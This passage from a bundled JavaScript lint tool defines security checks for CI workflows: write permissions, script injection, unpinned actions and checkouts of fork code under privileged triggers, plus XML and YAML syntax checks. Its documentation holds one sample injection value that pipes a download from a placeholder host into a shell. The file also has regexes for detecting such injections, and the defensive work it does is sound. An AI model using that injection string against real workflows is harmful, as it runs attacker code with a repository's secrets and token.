async function parseWorkflow(text) {
    if (parse_last?.text !== text)
        parse_last = { text, parsed: parse_parse(text) };
    return parse_last.parsed;
}
async function parse_parse(text) {
    if (!/^\s*["']?(?:jobs|runs)["']?\s*:/m.test(text))
        return undefined;
    const { parseYamlWorkflow } = await Promise.all(/* import() */[__webpack_require__.e(815), __webpack_require__.e(917)]).then(__webpack_require__.bind(__webpack_require__, 5917));
    return parseYamlWorkflow(text);
}
async function judgeWorkflow(file, report, judge) {
    const text = file.text();
    const workflow = await parseWorkflow(text);
    if (workflow === undefined)
        return;
    const exact = Buffer.byteLength(text) === file.length;
    const seen = new Set();
    for (const { start, end, message, level, rule } of judge(workflow, text)) {
        const identity = `${start}:${end}:${rule}`;
        if (seen.has(identity))
            continue;
        seen.add(identity);
        const offset = Buffer.byteLength(text.slice(0, start));
        const at = exact ? { offset, length: Buffer.byteLength(text.slice(start, end)) } : undefined;
        report({ message, at, level, rule });
    }
}
function* embedded(text, scalar) {
    for (const match of text.slice(scalar.start, scalar.end).matchAll(/\$\{\{((?:'(?:[^']|'')*'|(?!\}\}).)*)\}\}/gs)) {
        const start = scalar.start + match.index;
        yield { expression: match[1], start, end: start + match[0].length };
    }
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-change.js


const workflow = /^\.github\/workflows\/[^/]+\.ya?ml$/;
const other = /^(?:\.gitlab-ci\.ya?ml|\.gitlab\/ci\/.+\.ya?ml|\.circleci\/[^/]+\.ya?ml|bitbucket-pipelines\.ya?ml|\.?azure-pipelines[\w.-]*\.ya?ml|Jenkinsfile[\w.-]*|\.travis\.ya?ml|\.drone\.ya?ml|appveyor\.ya?ml|\.appveyor\.ya?ml|\.cirrus\.ya?ml|\.buildkite\/.+\.ya?ml|\.woodpecker(?:\/.+)?\.ya?ml|\.semaphore\/.+\.ya?ml)$|^\.github\/actions\/.+/;
const workflowChange = changeCheck({
    scope: 'change',
    id: 'workflow-change',
    summary: 'The change alters what runs in CI',
    level: 'note',
    docs: `What runs in CI holds the keys: tokens that write to the repository, secrets for releases and clouds. A change of
it deserves a reader who knows what it may do, so a changed GitHub workflow is reported together with that: events that
run with secrets even for forks, permissions to write, and the secrets it reads.

Also reported, without such detail, are local actions in \`.github/actions\` and the configuration of GitLab CI, CircleCI,
Bitbucket, Azure, Jenkins, Travis, Drone, AppVeyor, Cirrus, Buildkite, Woodpecker and Semaphore. Changes of comments and
empty lines alone are left alone, so are changes that only raise the versions of actions, and so are deleted files.

There is nothing to mend where the change is meant.`,
    source: 'https://docs.github.com/en/actions/reference/security/secure-use',
    examples: [
        {
            title: 'a workflow that may write, and another CI',
            base: { '.github/workflows/ci.yml': 'on: push\npermissions:\n  contents: write\njobs: {}\n' },
            files: {
                '.github/workflows/ci.yml': 'on: [push]\npermissions:\n  contents: write\njobs: {}\n',
                '.gitlab-ci.yml': 'test:\n  script: make\n',
            },
            findings: ['.github/workflows/ci.yml:1', '.gitlab-ci.yml:1'],
        },
        {
            title: 'comments, versions of actions, templates elsewhere, and deleted files',
            base: {
                '.github/workflows/ci.yml': 'on: push\njobs: {}\n',
                '.github/actions/a/action.yml': 'runs:\n  using: composite\n  steps:\n    - uses: a/b@v1\n',
                '.travis.yml': 'language: c\n',
            },
            files: {
                '.github/workflows/ci.yml': '# On each push.\non: push\njobs: {}\n',
                '.github/actions/a/action.yml': 'runs:\n  using: composite\n  steps:\n    - uses: a/b@v2\n',
                'templates/.gitlab-ci.yml': 'a: {}\n',
            },
            findings: [],
        },
    ],
    async run(change, report) {
        for (const file of change.files) {
            const isWorkflow = workflow.test(file.path);
            const line = isWorkflow || other.test(file.path) ? firstLine(file) : undefined;
            if (line === undefined)
                continue;
            const powers = isWorkflow ? await powersOf(change, file) : '';
            report(file.path, { line, message: `the change alters what runs in CI${powers === '' ? '' : `: ${powers}`}` });
        }
    },
});
const version = /^\s*(?:-\s+)?uses:\s*[^\s@]+@\S+\s*(?:#.*)?$/;
function firstLine({ status, hunks }) {
    const raises = hunks.every((hunk) => hunk.baseCount === hunk.headCount && hunk.added.every((line) => version.test(line)));
    if (status === 'deleted' || raises)
        return undefined;
    for (const { added, baseCount, headStart } of hunks) {
        const index = added.findIndex((line) => !/^\s*(?:#|\/\/|$)/.test(line));
        if (index >= 0)
            return headStart + index;
        if (baseCount > 0 && added.length === 0)
            return Math.max(1, headStart);
    }
    return undefined;
}
async function powersOf(change, file) {
    const text = change.text(file) ?? '';
    const parsed = await parseWorkflow(text);
    if (parsed === undefined)
        return '';
    const events = ['pull_request_target', 'workflow_run', 'issue_comment'].filter((event) => parsed.triggers.has(event));
    const writes = writable(parsed);
    const secrets = [...new Set([...text.matchAll(/\bsecrets\.(\w+)/g)].map((match) => match[1]))].filter((name) => name !== 'GITHUB_TOKEN');
    return [
        events.length > 0 ? `strangers can set it off (${events.join(', ')})` : '',
        writes.length > 0 ? `it may write ${writes.join(', ')}` : '',
        secrets.length > 0
            ? `it reads ${secrets.length === 1 ? 'the secret' : `${secrets.length} secrets, among them`} ${secrets[0]}`
            : '',
    ]
        .filter((power) => power !== '')
        .join('; ');
}
function writable({ permissions, jobs }) {
    const scopes = new Set();
    for (const { all, scopes: named } of [permissions, ...jobs.map((job) => job.permissions)].filter(isGiven)) {
        if (all?.value === 'write-all')
            scopes.add('everything');
        for (const [scope, level] of named)
            if (level.value === 'write')
                scopes.add(scope);
    }
    return [...scopes];
}
function isGiven(permissions) {
    return permissions !== undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-permissions.js



const workflowPermissions = fileCheck({
    scope: 'file',
    id: 'workflow-permissions',
    summary: 'A workflow whose token may do more than it says',
    level: 'warning',
    docs: `Every job receives a token for the repository. Without \`permissions\` the settings of the repository or the
organisation decide what it may do, and in many that is to write everything. Whatever the job runs, an action or a
package that turned bad, may do the same.

Reported are \`permissions: write-all\`, and once per workflow that neither the workflow nor each of its jobs names its
permissions. A workflow that is only called by others (\`workflow_call\`) is left alone: its caller sets the limit.

Begin with \`permissions: { contents: read }\` at the top, or \`permissions: {}\`, and give single jobs what they need.`,
    source: 'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions',
    types: file_type/* FileType */.pt.workflow,
    examples: [
        {
            title: 'no permissions at all, or in one job only',
            files: {
                '.github/workflows/a.yml': 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps: []\n',
                '.github/workflows/b.yml': 'on: push\njobs:\n  one:\n    permissions: {}\n    runs-on: ubuntu-latest\n  two:\n    runs-on: ubuntu-latest\n',
            },
            findings: ['.github/workflows/a.yml:3 missing', '.github/workflows/b.yml:6 missing'],
        },
        {
            title: 'everything',
            files: {
                '.github/workflows/a.yml': 'on: push\npermissions: write-all\njobs:\n  build:\n    runs-on: ubuntu-latest\n',
            },
            findings: ['.github/workflows/a.yml:2 write-all'],
        },
        {
            title: 'at the top, in each job, or set by the caller',
            files: {
                '.github/workflows/a.yml': 'on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n',
                '.github/workflows/b.yml': 'on: push\njobs:\n  build:\n    permissions: {}\n    runs-on: ubuntu-latest\n',
                '.github/workflows/c.yml': 'on: workflow_call\njobs:\n  build:\n    runs-on: ubuntu-latest\n',
            },
            findings: [],
        },
    ],
    run(file, report) {
        return judgeWorkflow(file, report, judge);
    },
});
function* judge({ kind, triggers, permissions, jobs }) {
    for (const { all } of [permissions, ...jobs.map((job) => job.permissions)].filter((some) => some !== undefined)) {
        if (all?.value !== 'write-all')
            continue;
        yield {
            start: all.start,
            end: all.end,
            rule: 'write-all',
            message: '`write-all` lets the token change everything in the repository',
        };
    }
    const called = triggers.size === 1 && triggers.has('workflow_call');
    if (kind === 'action' || called || permissions !== undefined)
        return;
    const open = jobs.filter((job) => job.permissions === undefined);
    if (open[0] === undefined)
        return;
    const who = open.length === jobs.length
        ? 'neither the workflow nor its jobs name'
        : `neither the workflow nor ${list(open.map((job) => job.name.value))} names`;
    const { start, end } = open[0].name;
    yield { start, end, rule: 'missing', message: `${who} the permissions of the token` };
}
function list(names) {
    const shown = names.slice(0, 3).map((name) => `\`${name}\``);
    return names.length > 3 ? `${shown.join(', ')} and ${names.length - 3} more jobs` : shown.join(', ');
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow/expression.js
function resultContexts(expression) {
    const tokens = tokenize(expression);
    const reader = { tokens, at: 0 };
    const found = tokens === undefined ? undefined : readOr(reader);
    if (found !== undefined && reader.at === tokens?.length)
        return found;
    return (expression.match(/[A-Za-z_][\w-]*(?:\.[\w*-]+)+/g) ?? []).map((path) => path.toLowerCase());
}
const expression_token = /\s*('(?:[^']|'')*'|[A-Za-z_][\w-]*|[\d.+-][\w.+-]*|&&|\|\||[=!<>]=|[()[\],.!<>*])/y;
function tokenize(expression) {
    const tokens = [];
    const text = expression.trimEnd();
    for (expression_token.lastIndex = 0; expression_token.lastIndex < text.length;) {
        const match = expression_token.exec(text);
        if (match === null)
            return undefined;
        const [, word] = match;
        if (/^\.[^\d]/.test(word)) {
            tokens.push('.');
            expression_token.lastIndex -= word.length - 1;
        }
        else
            tokens.push(word);
    }
    return tokens;
}
function take(reader, ...wanted) {
    const next = reader.tokens?.[reader.at];
    if (next === undefined || !wanted.includes(next))
        return undefined;
    reader.at++;
    return next;
}
function readOr(reader) {
    let found = readAnd(reader);
    while (found !== undefined && take(reader, '||')) {
        const right = readAnd(reader);
        found = right === undefined ? undefined : [...found, ...right];
    }
    return found;
}
function readAnd(reader) {
    let found = readComparison(reader);
    while (found !== undefined && take(reader, '&&'))
        found = readComparison(reader);
    return found;
}
function readComparison(reader) {
    let found = readUnary(reader);
    while (found !== undefined && take(reader, '==', '!=', '<', '<=', '>', '>=')) {
        found = readUnary(reader) === undefined ? undefined : [];
    }
    return found;
}
function readUnary(reader) {
    if (!take(reader, '!'))
        return readPath(reader);
    return readUnary(reader) === undefined ? undefined : [];
}
function readPath(reader) {
    const first = reader.tokens?.[reader.at++];
    if (first === undefined)
        return undefined;
    if (first === '(')
        return readDereferences(reader, readGroup(reader));
    if (/^['\d+.-]/.test(first))
        return [];
    if (!/^[A-Za-z_]/.test(first))
        return undefined;
    if (take(reader, '('))
        return readDereferences(reader, readCall(reader, first.toLowerCase()));
    return readDereferences(reader, /^(?:true|false|null|infinity|nan)$/i.test(first) ? [] : [first.toLowerCase()]);
}
function readGroup(reader) {
    const inner = readOr(reader);
    return take(reader, ')') ? inner : undefined;
}
function readCall(reader, name) {
    const found = [];
    while (!take(reader, ')')) {
        const argument = readOr(reader);
        if (argument === undefined)
            return undefined;
        found.push(...argument);
        if (!take(reader, ',') && reader.tokens?.[reader.at] !== ')')
            return undefined;
    }
    return /^(?:contains|startswith|endswith|hashfiles|always|success|failure|cancelled)$/.test(name) ? [] : found;
}
function readDereferences(reader, paths) {
    let found = paths;
    while (found !== undefined) {
        let name;
        if (take(reader, '.'))
            name = reader.tokens?.[reader.at++];
        else if (take(reader, '['))
            name = readIndex(reader);
        else
            return found;
        if (name === undefined)
            return undefined;
        const part = name.toLowerCase();
        found = found.map((path) => `${path}.${part}`);
    }
    return undefined;
}
function readIndex(reader) {
    const literal = reader.tokens?.[reader.at]?.match(/^'([\w-]+)'$/)?.[1];
    if (literal !== undefined)
        reader.at++;
    else if (!take(reader, '*') && readOr(reader) === undefined)
        return undefined;
    return take(reader, ']') ? (literal ?? '*') : undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow/untrusted.js
const person = '(?:author|committer)\\.(?:name|email)';
const commit = `(?:message|${person})`;
const texts = [
    '(?:issue|discussion|pull_request)\\.(?:title|body)',
    '(?:comment|review|review_comment|discussion_comment)\\.body',
    'pull_request\\.head\\.(?:ref|label|repo\\.(?:default_branch|description|homepage))',
    'pages\\.[^.]+\\.page_name',
    `(?:commits\\.[^.]+|head_commit)\\.${commit}`,
    'workflow_run\\.(?:head_branch|display_title|head_repository\\.description|pull_requests\\.[^.]+\\.head\\.ref)',
    `workflow_run\\.head_commit\\.${commit}`,
].join('|');
const untrusted = new RegExp(`^github\\.(?:head_ref|event\\.(?:${texts}))$`);
const whole = /^github(?:\.event(?:\.(?:issue|discussion|pull_request|comment|review|commits|head_commit|workflow_run)(?:\.\*)?)?)?$/;
function isUntrusted(context) {
    return untrusted.test(context) || whole.test(context);
}
function isOfPullRequest(context) {
    return context === 'github.head_ref' || context.startsWith('github.event.pull_request.');
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-script-injection.js





const workflowScriptInjection = fileCheck({
    scope: 'file',
    id: 'workflow-script-injection',
    summary: 'A script into which a stranger can write commands',
    level: 'error',
    docs: `GitHub puts the value of \`\${{ … }}\` into a script before the shell reads it. Where the value is the title of an
issue or the name of a branch, whoever chooses it writes commands into the script: \`"; curl evil.example | sh; "\`.

Looked at are \`run\` and the \`script\` of \`actions/github-script\`, and in them the contexts that anybody can fill: titles,
bodies, messages, names and e-mail addresses of authors, head branches; also by way of \`env\`. Expressions that only
compare or test such a value are left alone. The level is a warning where the value exists in pull requests only and the
run has neither secrets nor a token that may write. Inputs of a composite action, and text inputs of a reusable workflow,
are a note, one for each script: it depends on who calls. Inputs of \`workflow_dispatch\` are left alone, only members can give them.

Hand the value over as a variable, and quote it: \`env: { TITLE: "\${{ github.event.issue.title }}" }\`, then \`"$TITLE"\`
in the shell or \`process.env.TITLE\` in JavaScript.`,
    source: 'https://docs.github.com/en/actions/concepts/security/script-injections',
    types: file_type/* FileType */.pt.workflow,
    examples: [
        {
            title: 'a title in a shell, a branch in JavaScript, a message by way of a variable',
            files: {
                '.github/workflows/triage.yml': `on: [issues, pull_request_target, push]
env:
  MESSAGE: \${{ github.event.head_commit.message }}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New:"
          echo "\${{ github.event.issue.title || 'none' }}"
      - uses: actions/github-script@v7
        with:
          script: console.log('\${{ github.head_ref }}')
      - run: echo "\${{ env.MESSAGE }}" "\${{ toJSON(github.event.issue) }}"
`,
            },
            findings: [10, 13, 14, 14].map((line) => `.github/workflows/triage.yml:${line}`),
        },
        {
            title: 'the inputs of a composite action',
            files: {
                'greet/action.yml': `inputs:
  name:
    description: Who
runs:
  using: composite
  steps:
    - run: echo "\${{ inputs.name }}"
      shell: bash
`,
            },
            findings: ['greet/action.yml:7'],
        },
        {
            title: 'values as variables, comparisons, numbers, and inputs that members give',
            files: {
                '.github/workflows/triage.yml': `on:
  issues:
  workflow_dispatch:
    inputs:
      name: { type: string }
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE" "\${{ contains(github.event.issue.title, 'bug') }}" "\${{ github.event.issue.number }}"
        env:
          TITLE: \${{ github.event.issue.title }}
      - run: echo "\${{ github.event.issue.title == 'x' && 'yes' || 'no' }}" "\${{ inputs.name }}"
`,
            },
            findings: [],
        },
    ],
    run(file, report) {
        return judgeWorkflow(file, report, workflow_script_injection_judge);
    },
});
function* workflow_script_injection_judge(workflow, text) {
    for (const job of workflow.jobs) {
        for (const step of job.steps) {
            for (const script of scripts(step)) {
                let noted = false;
                for (const { expression, start, end } of embedded(text, script)) {
                    const contexts = resultContexts(expression).flatMap((context) => [
                        context,
                        ...ofVariable(context, [step, job, workflow], text),
                    ]);
                    const remark = judgeContexts(contexts, workflow);
                    if (remark === undefined || (remark.level === 'note' && noted))
                        continue;
                    noted ||= remark.level === 'note';
                    yield { start, end, ...remark };
                }
            }
        }
    }
}
function scripts({ uses, run, with: inputs }) {
    const script = /^actions\/github-script@/i.test(uses?.value ?? '') ? inputs.get('script') : undefined;
    return [run, script].filter((scalar) => scalar !== undefined);
}
function ofVariable(context, scopes, text) {
    const name = context.match(/^env\.(.+)$/)?.[1];
    if (name === undefined)
        return [];
    const value = scopes.map(({ env }) => env.get(name)).find((scalar) => scalar !== undefined);
    return value === undefined ? [] : [...embedded(text, value)].flatMap(({ expression }) => resultContexts(expression));
}
function judgeContexts(contexts, workflow) {
    const found = contexts.find(isUntrusted);
    if (found !== undefined) {
        const privileged = ['pull_request_target', 'workflow_call'].some((event) => workflow.triggers.has(event));
        const harmless = workflow.kind === 'workflow' && isOfPullRequest(found) && !privileged;
        const message = `whoever chooses \`${found}\` can write commands into this script; hand it over in \`env\``;
        return { message, level: harmless ? 'warning' : 'error' };
    }
    const input = contexts.find((context) => context.startsWith('inputs.') && workflow.textInputs.has(context.slice(7)));
    if (input === undefined)
        return undefined;
    return {
        message: `whoever fills \`${input}\` can write commands into this script; hand it over in \`env\``,
        level: 'note',
    };
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-unpinned-uses.js



const sha = 'a5ac7e51b41094c92402da3b24376905380afc29';
const workflowUnpinnedUses = fileCheck({
    scope: 'file',
    id: 'workflow-unpinned-uses',
    summary: 'An action that is named by a tag or a branch, which can be moved',
    level: 'warning',
    docs: `Whoever can push to an action's repository can move its tags, and every workflow that names one then runs other
code, with its secrets and its token. Only the full SHA of a commit stands for the same code always.

Looked at are the steps and the called workflows of \`.github/workflows\`, and the steps of composite actions. Local
actions (\`./…\`) and images with a digest are left alone. GitHub's own actions (\`actions/…\`, \`github/…\`) are a note only.
\`allow\` names owners or repositories that are trusted, your own organisation for instance: \`acme\`, \`acme/deploy\`,
\`acme/deploy-*\`.

Put the SHA in place of the tag and the tag in a comment behind it: \`uses: acme/deploy@${sha.slice(0, 8)}… # v1.2.3\`.
Dependabot and Renovate update both.`,
    source: 'https://docs.github.com/en/actions/reference/security/secure-use#using-third-party-actions',
    types: file_type/* FileType */.pt.workflow,
    options: {
        allow: {
            type: 'strings',
            default: [],
            summary: 'Owners and repositories that are trusted; `*` stands for any name',
        },
    },
    examples: [
        {
            title: 'tags, branches, short SHAs, images and called workflows',
            files: {
                '.github/workflows/ci.yml': `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: acme/setup@main
      - uses: acme/setup/node@a5ac7e5
      - uses: docker://alpine:3.20
  call:
    uses: acme/shared/.github/workflows/ci.yml@v1
`,
            },
            findings: [6, 7, 8, 9, 11].map((line) => `.github/workflows/ci.yml:${line}`),
        },
        {
            title: 'pinned, local, or trusted',
            options: { allow: ['acme', 'else/deploy-*'] },
            files: {
                'deploy/action.yml': `runs:
  using: composite
  steps:
    - uses: elsewhere/setup@${sha} # v1
    - uses: ./setup
    - uses: docker://alpine@sha256:${sha}${sha.slice(0, 24)}
    - uses: acme/deploy@v1
    - uses: else/deploy-web@v1
`,
            },
            findings: [],
        },
    ],
    run(file, report, options) {
        const allowed = options.allow.map(workflow_unpinned_uses_toPattern);
        return judgeWorkflow(file, report, function* (workflow) {
            for (const job of workflow.jobs) {
                for (const uses of [job.uses, ...job.steps.map((step) => step.uses)]) {
                    const remark = uses === undefined ? undefined : workflow_unpinned_uses_judge(uses, allowed);
                    if (remark !== undefined)
                        yield remark;
                }
            }
        });
    },
});
function workflow_unpinned_uses_judge(uses, allowed) {
    const { value, start, end } = uses;
    if (value.startsWith('./') || value.startsWith('.\\') || value.includes('${{'))
        return undefined;
    if (value.startsWith('docker://')) {
        return /@sha256:[\da-f]{64}$/.test(value)
            ? undefined
            : { start, end, message: `the image \`${value.slice(9)}\` is not pinned by its digest` };
    }
    const [action = '', ref = ''] = value.split('@');
    const [owner = '', repository = ''] = action.split('/');
    if (/^[\da-f]{40}(?:[\da-f]{24})?$/i.test(ref) || allowed.some((pattern) => pattern.test(`${owner}/${repository}`)))
        return undefined;
    const message = ref === ''
        ? `\`${value}\` names no version`
        : `\`${action}\` is pinned to \`${ref}\`, which can be moved, not to the SHA of a commit`;
    return { start, end, message, level: /^(?:actions|github)$/i.test(owner) ? 'note' : 'warning' };
}
function workflow_unpinned_uses_toPattern(allowed) {
    const escaped = allowed.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replaceAll('*', '[^/]*');
    return new RegExp(`^${escaped}${allowed.includes('/') ? '' : '/.*'}$`, 'i');
}

;// CONCATENATED MODULE: ./lib/modules/checks/workflow-untrusted-checkout.js



const ofPullRequest = /github\.event\.pull_request\.(?:head\.|number|merge_commit_sha)|github\.head_ref|github\.event\.number|refs\/pull\//;
const ofRun = /github\.event\.workflow_run\.(?:head_(?!repository\.full_name\s*==)|pull_requests)/;
const inScript = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull|checkout|switch)\b[^\n]*(?:\bpull\/\S+\/(?:head|merge)|github\.head_ref|pull_request\.head\.)/;
const onlyOwnCode = /head\.repo\.full_name\s*==\s*(?:github\.repository|'[^']+')|head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork|workflow_run\.head_repository\.full_name\s*==|workflow_run\.event\s*==\s*'(?!pull_request)|workflow_run\.event\s*!=\s*'pull_request'/;
const workflowUntrustedCheckout = fileCheck({
    scope: 'file',
    id: 'workflow-untrusted-checkout',
    summary: 'A workflow with secrets that checks out the code of a stranger',
    level: 'error',
    docs: `\`pull_request_target\` and \`workflow_run\` run in the name of the repository, with its secrets and a token that may
write, even when a fork set them off. If such a run checks out the head of the pull request and then builds, installs or
tests it, the author of the pull request runs commands with those secrets.

Looked at are \`actions/checkout\` with a \`ref\` or \`repository\` of the pull request, and scripts with \`gh pr checkout\` or
\`git fetch … pull/…\`. For \`workflow_run\` the level is a warning, since what set it off may never be a pull request. Jobs
and steps are left alone whose condition admits other events only, or only code from the repository itself
(\`head.repo.full_name == github.repository\`, \`workflow_run.event == 'push'\`).

Build under \`pull_request\`, hand the result over as an artifact, and let the privileged workflow read that as data.`,
    source: 'https://docs.github.com/en/actions/reference/security/secure-use#mitigating-the-risks-of-untrusted-code-checkout',
    types: file_type/* FileType */.pt.workflow,
    examples: [
        {
            title: 'the head of the pull request, with secrets',
            files: {
                '.github/workflows/ci.yml': `on: [push, pull_request_target]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: gh pr checkout 1
`,
            },
            findings: ['.github/workflows/ci.yml:8', '.github/workflows/ci.yml:9'],
        },
        {
            title: 'the commit that set off the first workflow',
            files: {
                '.github/workflows/after.yml': `on:
  workflow_run:
    workflows: [CI]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.workflow_run.head_sha }}
`,
            },
            findings: ['.github/workflows/after.yml:10'],
        },
        {
            title: 'the base, an event without secrets, and code from the repository itself',
            files: {
                '.github/workflows/base.yml': `on: pull_request_target
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
  own:
    if: github.event.pull_request.head.repo.full_name == github.repository
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.head_ref }}
`,
                '.github/workflows/ci.yml': `on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
`,
            },
            findings: [],
        },
    ],
    run(file, report) {
        return judgeWorkflow(file, report, workflow_untrusted_checkout_judge);
    },
});
function* workflow_untrusted_checkout_judge({ triggers, jobs }) {
    const events = ['pull_request_target', 'workflow_run'].filter((event) => triggers.has(event));
    for (const job of jobs) {
        for (const step of job.steps) {
            const conditions = `${job.condition}\n${step.condition}`;
            if (onlyOwnCode.test(conditions))
                continue;
            const event = events.find((name) => admits(conditions, name) && checkedOut(step, name) !== undefined);
            const place = event === undefined ? undefined : checkedOut(step, event);
            if (event === undefined || place === undefined)
                continue;
            const message = `\`${event}\` runs with secrets, and this checks out code that a stranger may have written`;
            yield { start: place.start, end: place.end, message, level: event === 'workflow_run' ? 'warning' : 'error' };
        }
    }
}
function admits(conditions, event) {
    const wanted = [...conditions.matchAll(/github\.event_name\s*==\s*'(\w+)'/g)].map((match) => match[1]);
    const barred = [...conditions.matchAll(/github\.event_name\s*!=\s*'(\w+)'/g)].map((match) => match[1]);
    return (wanted.length === 0 || wanted.includes(event)) && !barred.includes(event);
}
function checkedOut({ uses, run, with: inputs }, event) {
    const pattern = event === 'workflow_run' ? ofRun : ofPullRequest;
    if (/^actions\/checkout@/i.test(uses?.value ?? '')) {
        return ['ref', 'repository'].map((name) => inputs.get(name)).find((scalar) => scalar && pattern.test(scalar.value));
    }
    return event === 'pull_request_target' && inScript.test(run?.value ?? '') ? run : undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/templates.js
const sgml = /<[%#]|<\?php|\{\{|\{%/;
function isXmlTemplate(text) {
    return sgml.test(text);
}
const node = /^[ \t]*(?:- +)*(?:[^\s"'#][^"'#\n]*:[ \t]+)?(?:\{\{|\{%|\{#|<%|<\?)/m;
function isYamlTemplate(text) {
    return node.test(text);
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/xml.js



async function findXmlError(buffer, length) {
    const encoding = declaredEncoding(buffer, length);
    if (encoding === undefined)
        return undefined;
    const invalid = encoding === 'utf8' ? findUtf8Error(buffer, length) : undefined;
    if (invalid)
        return invalid;
    const text = buffer.toString(encoding, 0, length);
    const { judgeXml } = await Promise.all(/* import() */[__webpack_require__.e(800), __webpack_require__.e(243)]).then(__webpack_require__.bind(__webpack_require__, 8243));
    const fault = judgeXml(text);
    if (!fault || isXmlTemplate(text))
        return undefined;
    const offset = encoding === 'utf8' ? (0,syntax_problem/* byteOffset */.s$)(text, fault.index) : fault.index * (encoding === 'utf16le' ? 2 : 1);
    return { message: fault.message, offset, length: Math.min(1, length - offset) };
}
function declaredEncoding(buffer, length) {
    if (length >= 2 && buffer[0] === 0xff && buffer[1] === 0xfe)
        return 'utf16le';
    if (length >= 2 && buffer[0] === 0xfe && buffer[1] === 0xff)
        return undefined;
    const head = buffer.toString('latin1', 0, Math.min(length, 200));
    const name = /^(?:\xEF\xBB\xBF)?<\?xml[^>]*\sencoding\s*=\s*["']([\w.:-]+)/.exec(head)?.[1]?.toLowerCase() ?? 'utf-8';
    if (/^(?:utf-?8|us-ascii|ascii)$/.test(name))
        return 'utf8';
    return /^(?:iso-8859-1|latin-?1|windows-1252)$/.test(name) ? 'latin1' : undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/xml-syntax.js




const ambiguous = /\.(?:plist|props|targets)$/i;
const opensTag = /^\s*</;
const xmlSyntax = fileCheck({
    id: 'xml-syntax',
    scope: 'file',
    summary: 'XML that is not well-formed',
    level: 'error',
    source: 'https://www.w3.org/TR/xml/',
    types: file_type/* FileType */.pt.xml,
    except: file_type/* FileType */.pt.vendored | file_type/* FileType */.pt.fixture,
    docs: `
Files must be well-formed: tags that match, one root, attributes that are quoted and not repeated. Nothing outside of the
file is read, and nothing is validated. Prefixes of namespaces need no declaration.

Left alone: files of zero bytes, and in folders of test data or of other people's code; entities that a document type may declare; encodings other than UTF-8, UTF-16
(little-endian, with its mark), ASCII and Latin-1; \`.plist\`, \`.props\` and \`.targets\` files that do not begin with a tag;
and files that fail but are templates, which have \`<%\`, \`<#\`, \`<?php\`, \`{{\` or \`{%\` in them.
`,
    examples: [
        {
            title: 'A picture',
            files: { 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg">\n  <g/>\n</svg>\n' },
            findings: [],
        },
        {
            title: 'An entity of the document type',
            files: { 'a.xml': '<!DOCTYPE a [<!ENTITY b "c">]>\n<a>&b;</a>\n' },
            findings: [],
        },
        { title: 'A template', files: { 'a.xml': '<a>\n<% if b %>\n</a>\n' }, findings: [] },
        { title: 'Tags that do not match', files: { 'a.xml': '<a>\n  <b>\n</a>\n' }, findings: ['a.xml:3'] },
        { title: 'An ampersand', files: { 'a.xml': '<a>\n  b & c\n</a>\n' }, findings: ['a.xml:2'] },
        { title: 'An attribute twice', files: { 'a.svg': '<svg id="a"\n  id="b"/>\n' }, findings: ['a.svg:2'] },
    ],
    async run(file, report) {
        if (file.length === 0)
            return;
        if (ambiguous.test(file.path) && !opensTag.test(file.text().replace(/^\u{feff}/u, '')))
            return;
        (0,syntax_problem/* reportProblem */.kM)(await findXmlError(file.buffer, file.length), report);
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/yaml.js


async function findYamlError(buffer, length) {
    const invalid = findUtf8Error(buffer, length);
    if (invalid)
        return invalid;
    const text = buffer.toString('utf8', 0, length);
    const { judgeYaml } = await Promise.all(/* import() */[__webpack_require__.e(815), __webpack_require__.e(331)]).then(__webpack_require__.bind(__webpack_require__, 4331));
    const problem = judgeYaml(text);
    return problem && isYamlTemplate(text) ? undefined : problem;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/yaml-scalars.js
const seen = { bits: 0, lines: false };
const lf = 0x0a;
const space = 0x20;
const look = new Uint8Array(256);
for (let c = 0; c < space; c++)
    if (c !== 0x09)
        look[c] = 1;
look[0x23] = look[0x3a] = 1;
const lookInFlow = Uint8Array.from(look);
for (const c of ',[]{}')
    lookInFlow[c.charCodeAt(0)] = 1;
const first = new Uint8Array(256);
for (let c = 0; c <= space; c++)
    first[c] = 1;
for (const c of ',[]{}#&*!|>\'"%@`')
    first[c.charCodeAt(0)] = 1;
for (const c of '-?:')
    first[c.charCodeAt(0)] = 2;
function byteAt(b, p, end) {
    return p < end ? b[p] : lf;
}
function skipSpaces(b, start, end) {
    let p = start;
    while (p < end && b[p] === space)
        p++;
    return p;
}
function skipComment(b, start, end) {
    let bits = 0;
    let p = start;
    for (; p < end; p++) {
        const c = b[p];
        if (c === lf)
            break;
        if (c < space && c !== 0x09)
            return -1;
        bits |= c;
    }
    seen.bits |= bits;
    return p;
}
function readTail(b, start, end) {
    const p = skipSpaces(b, start, end);
    const c = byteAt(b, p, end);
    if (c === lf)
        return p;
